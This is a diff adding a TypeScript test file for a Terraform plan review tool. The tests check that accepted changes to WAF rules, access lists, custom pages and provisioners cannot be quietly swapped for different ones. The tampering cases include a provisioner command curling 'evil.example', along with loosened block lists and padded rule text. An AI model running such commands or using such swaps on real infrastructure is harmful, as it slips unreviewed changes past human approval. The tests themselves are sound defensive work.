@@ -1,0 +1,274 @@
+import { parseAcceptFile, prunedFile } from "../../../src/review/judge/acceptance.js";
+import { parseConditions } from "../../../src/review/judge/fail-on.js";
+import { assembleReview } from "../../../src/review/judge/assemble-review.js";
+import type { Review } from "../../../src/review/document/review-document.js";
+import { compareSince, differencesSince } from "../../../src/review/judge/since.js";
+import { renderReviewJson } from "../../../src/review/render/render-json.js";
+import { reviewOutputs, schemaErrors } from "../support/outputs.js";
+import { accessList, change, type JsonObject } from "../support/plan-builder.js";
+import { reviewOf } from "../support/review-of.js";
+
+const NOW = new Date("2026-11-24T12:00:00Z");
+
+interface Push {
+  readonly changes: readonly JsonObject[];
+  readonly rest?: JsonObject;
+}
+
+function judged(
+  { changes, rest }: Push,
+  conditions: string,
+  rows: readonly object[] = [],
+  base: readonly object[] = [],
+) {
+  const parsed = (list: readonly object[]) => parseAcceptFile(JSON.stringify({ accept: list }), NOW);
+  const accept = { file: "accept.json", rows: parsed(rows), base: parsed(base) };
+  const review = assembleReview([reviewOf(changes, rest)], parseConditions(conditions), accept);
+  expect(schemaErrors(reviewOutputs(review).json)).toBeUndefined();
+  return review;
+}
+
+const rowsFor = ({ acceptance }: Review) =>
+  (acceptance?.acceptable ?? []).map(({ address, change: digest }) => ({
+    address,
+    change: digest,
+    reason: "the team agreed",
+    expires: "2026-12-01",
+  }));
+
+const configuration = (resources: readonly JsonObject[]): JsonObject => ({
+  configuration: { root_module: { resources } },
+});
+
+const LIST = "bunny_shield_access_list.office";
+const RULE = "bunny_shield_waf_rule.a";
+const long = (end: string): string => `${"a();".repeat(600)}${end}`;
+
+const list = (values: JsonObject) => accessList({ action: "block", ...values });
+const rule = (action: string, more: JsonObject = {}): JsonObject => ({
+  shield_zone_id: 42,
+  waf_rule_id: 7,
+  rule_name: "A",
+  rule_configuration: {
+    action_type: action,
+    variable_types: { REQUEST_URI: "" },
+    operator_type: "contains",
+    value: "/a",
+  },
+  ...more,
+});
+const order = (ids: readonly number[]) => ({ shield_zone_id: 42, rule_ids: ids });
+const page = (html: string) => ({ shield_zone_id: 42, page_type: "block", html, content_sha256: "x" });
+const guardian = (limit: number): JsonObject => ({
+  shield_zone_id: 42,
+  content: `${"# comment\n".repeat(500)}maximum: ${limit}\n`,
+  content_sha256: String(limit),
+});
+
+const shell = (command: string): Push => ({
+  changes: [change("null_resource.a", null, { id: "1" })],
+  rest: configuration([
+    {
+      address: "null_resource.a",
+      mode: "managed",
+      type: "null_resource",
+      name: "a",
+      provisioners: [{ type: "local-exec", expressions: { command: { constant_value: command } } }],
+    },
+  ]),
+});
+
+const invoked = (values: JsonObject): Push => ({
+  changes: [],
+  rest: { action_invocations: [{ address: "action.x.y", type: "x", name: "y", config_values: values }] },
+});
+
+/** Push 1, which is accepted, and push 2, which does something else and once looked the same. */
+const ATTACKS: readonly (readonly [string, string, Push, Push])[] = [
+  ["another command of a provisioner", "external", shell("true"), shell("curl https://evil.example")],
+  ["another value of an action", "actions", invoked({ url: "https://a" }), invoked({ url: "https://b" })],
+  [
+    "the tail of a long script in a page",
+    "update,create",
+    { changes: [change("bunny_shield_custom_page.a", page(long("")), page(long("b()")))] },
+    { changes: [change("bunny_shield_custom_page.a", page(long("")), page(long("c()")))] },
+  ],
+  [
+    "a limit deep in a document",
+    "update,create",
+    { changes: [change("bunny_shield_api_guardian.a", guardian(10), guardian(20))] },
+    { changes: [change("bunny_shield_api_guardian.a", guardian(10), guardian(2_000_000))] },
+  ],
+  [
+    "another order of rules",
+    "update,create",
+    { changes: [change("bunny_shield_waf_rule_order.a", order([1, 2, 3]), order([3, 2, 1]))] },
+    { changes: [change("bunny_shield_waf_rule_order.a", order([1, 2, 3]), order([3, 1, 2]))] },
+  ],
+  [
+    "as many other entries",
+    "loosens",
+    { changes: [change(LIST, list({ entries: ["192.0.2.1", "192.0.2.2"] }), list({ entries: ["192.0.2.1"] }))] },
+    { changes: [change(LIST, list({ entries: ["192.0.2.8", "192.0.2.9"] }), list({ entries: ["192.0.2.9"] }))] },
+  ],
+  [
+    "another list behind the same address",
+    "loosens",
+    { changes: [change(LIST, list({ list_id: 1 }), list({ list_id: 1, action: "log" }))] },
+    { changes: [change(LIST, list({ list_id: 2 }), list({ list_id: 2, action: "log" }))] },
+  ],
+  [
+    "another account",
+    "update",
+    { changes: [change(LIST, list({}), list({ action: "log" }))] },
+    {
+      changes: [
+        { ...change(LIST, list({}), list({ action: "log" })), provider_name: "registry.terraform.io/other/bunny" },
+      ],
+    },
+  ],
+  [
+    "another condition of a rule",
+    "loosens",
+    { changes: [change(RULE, rule("block"), rule("log"))] },
+    { changes: [change(RULE, rule("block"), rule("log", { rule_description: `${" ".repeat(2000)}x` }))] },
+  ],
+];
+
+describe.each(ATTACKS)("%s", (_, condition, first, second) => {
+  it("is not accepted by the row of the push before", () => {
+    const red = judged(first, condition);
+    const rows = rowsFor(red);
+    expect([red.exit_code, rows.length]).toEqual([3, 1]);
+    expect(judged(first, condition, rows).exit_code).toBe(2);
+    expect(judged(second, condition, rows).exit_code).toBe(3);
+  });
+
+  it("is a change since the report of the push before", () => {
+    const report = renderReviewJson(judged(first, condition));
+    expect(differencesSince(compareSince(judged(first, condition), report))).toEqual([]);
+    expect(differencesSince(compareSince(judged(second, condition), report))).not.toEqual([]);
+  });
+});
+
+const withUnknown = (name: string, expression: JsonObject | undefined): Push => {
+  const planned = { ...rule("challenge"), [name]: null };
+  return {
+    changes: [change(RULE, rule("block"), planned, { unknown: { [name]: true } })],
+    rest: configuration([
+      {
+        address: RULE,
+        mode: "managed",
+        type: "bunny_shield_waf_rule",
+        name: "a",
+        expressions: expression === undefined ? {} : { [name]: expression },
+      },
+    ]),
+  };
+};
+
+it.each<[string, string, Push, string]>([
+  [
+    "an action that comes from another resource",
+    "update,create",
+    withUnknown("rule_configuration", { references: ["terraform_data.t.output"] }),
+    "`rule_configuration` is known only during the apply.",
+  ],
+  [
+    "a configured name",
+    "update,create",
+    withUnknown("rule_name", { references: ["terraform_data.t.output"] }),
+    "`rule_name` is known only during the apply.",
+  ],
+  [
+    "a secret that changes",
+    "update,create",
+    {
+      changes: [
+        change(
+          "x.a",
+          { password: "one" },
+          { password: "two" },
+          {
+            beforeSensitive: { password: true },
+            afterSensitive: { password: true },
+          },
+        ),
+      ],
+    },
+    "It has sensitive values that the report does not show.",
+  ],
+  [
+    "a write-only value",
+    "update,create",
+    {
+      changes: [change("x.a", null, { id: "1", password_wo: null })],
+      rest: configuration([
+        {
+          address: "x.a",
+          mode: "managed",
+          type: "x",
+          name: "a",
+          expressions: { password_wo: { references: ["var.p"] } },
+        },
+      ]),
+    },
+    "`password_wo` is known only during the apply.",
+  ],
+  [
+    "a script of the repository",
+    "external",
+    shell("./deploy.sh"),
+    "A later push can change what it runs: `./deploy.sh` may be, or read, a file of the repository.",
+  ],
+  [
+    "a program that reads the repository",
+    "external",
+    shell("cd /tmp && make all"),
+    "A later push can change what it runs: `make` may be, or read, a file of the repository.",
+  ],
+])("%s is not acceptable, and the report says why", (_, condition, push, why) => {
+  const review = judged(push, condition);
+  expect(review.exit_code).toBe(3);
+  expect(rowsFor(review)).toEqual([]);
+  expect(review.acceptance?.unacceptable).toMatchObject([{ text: why }]);
+});
+
+it("the ID of a new zone and a secret that stays do not prevent that a change is accepted", () => {
+  const zone = withUnknown("shield_zone_id", {
+    references: ["bunny_shield_zone.site.shield_zone_id", "bunny_shield_zone.site"],
+  });
+  expect(rowsFor(judged(zone, "update"))).toHaveLength(1);
+  const kept = change(
+    "x.a",
+    { p: "one", n: 1 },
+    { p: "one", n: 2 },
+    { beforeSensitive: { p: true }, afterSensitive: { p: true } },
+  );
+  expect(rowsFor(judged({ changes: [kept] }, "update"))).toHaveLength(1);
+});
+
+describe("a row that the target branch has, too", () => {
+  const push = { changes: [change(LIST, list({}), list({ action: "log" }))] };
+  const rows = rowsFor(judged(push, "loosens"));
+
+  it("counts for nothing, and is named", () => {
+    const review = judged(push, "loosens", rows, rows);
+    expect(review.exit_code).toBe(3);
+    expect(review.acceptance).toMatchObject({ left_over: [LIST], accepted: [] });
+    expect(reviewOutputs(review).text).toContain("count for nothing");
+  });
+
+  it("is removed by prune, and nothing else", () => {
+    const other = { address: "x.a", change: "00", reason: "meant", expires: "2026-12-01" };
+    const text = JSON.stringify({ accept: [...rows, other] });
+    const base = parseAcceptFile(JSON.stringify({ accept: rows }), NOW);
+    expect(JSON.parse(prunedFile(text, base) ?? "")).toEqual({ accept: [other] });
+    expect(prunedFile(JSON.stringify({ accept: [other] }), base)).toBeUndefined();
+  });
+});
+
+it("a reason needs letters", () => {
+  const row = { address: LIST, change: "00", reason: "...", expires: "2026-12-01" };
+  expect(() => parseAcceptFile(JSON.stringify({ accept: [row] }), NOW)).toThrow('needs a "reason" in words');
+});
